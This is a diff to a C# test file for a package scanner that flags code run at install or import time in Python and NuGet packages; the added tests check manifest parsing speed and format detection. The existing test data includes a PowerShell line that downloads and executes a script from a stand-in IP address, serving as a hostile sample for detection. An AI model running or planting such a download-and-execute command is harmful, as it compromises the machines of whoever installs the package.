@@ -38,6 +38,7 @@ public sealed class PackageScanTests
         { "pip runs it when the package is installed", "tgz", ["package/package.json", """{"name":"a","version":"1.0.0"}""", "package/setup.py", Steals] },
         { "pip runs it when the package is installed", "tgz", ["package/package.json", "{", "package/PKG-INFO", Metadata, "package/setup.py", Steals] },
         { "runs when it is imported", "zip", ["A.nuspec", "<package><metadata><id>A</id><version>1.0.0</version></metadata></package>", "a-1.0.dist-info/METADATA", Metadata, "a/__init__.py", Steals] },
+        { "runs when it is imported", "zip", ["b.dist-info/METADATA", Metadata, "a-1.0.dist-info/METADATA", Metadata, "a/__init__.py", Steals, "c/PKG-INFO", "no metadata"] },
         { "Visual Studio runs it when the package is installed", "zip", ["A.nuspec", "<package><metadata><id>A</id><version>1.0.0</version></metadata></package>", "tools/init.ps1", "iex (New-Object Net.WebClient).DownloadString('http://192.0.2.9/x')"] },
     };
 
@@ -54,6 +55,23 @@ public sealed class PackageScanTests
         Assert.StartsWith("sha256:", report.Artifact.Digest, StringComparison.Ordinal);
         Assert.StartsWith("pkg:", report.Artifact.Purl, StringComparison.Ordinal);
         Assert.True(report.Tree.Nodes.Count > 1);
+    }
+
+    [Fact]
+    public async Task Of_thousands_of_manifests_one_of_each_format_is_read()
+    {
+        var metadata = Metadata + new string(' ', 4_000_000);
+        var watch = System.Diagnostics.Stopwatch.StartNew();
+        var image = await OpenAsync(Package("zip", [.. Enumerable.Range(0, 300).SelectMany(at => new[] { $"m{at}/PKG-INFO", metadata, $"m{at}.dist-info/METADATA", metadata })]));
+        Assert.True(watch.Elapsed < Worst, $"{watch.Elapsed}");
+        Assert.Equal([PackageFormat.PythonSource, PackageFormat.PythonWheel], image.Package!.Also.Prepend(image.Package).Select(static package => package.Format));
+    }
+
+    [Fact]
+    public async Task Python_with_a_part_in_Rust_is_a_source_archive_of_Python()
+    {
+        var image = await OpenAsync(Package("tgz", ["a-1.0/pyproject.toml", "", "a-1.0/Cargo.toml", "[package]\nname = \"a\"\nversion = \"1.0.0\"\n"]));
+        Assert.Equal([PackageFormat.PythonSource, PackageFormat.Crate], image.Package!.Also.Prepend(image.Package).Select(static package => package.Format));
     }
 
     [Theory]
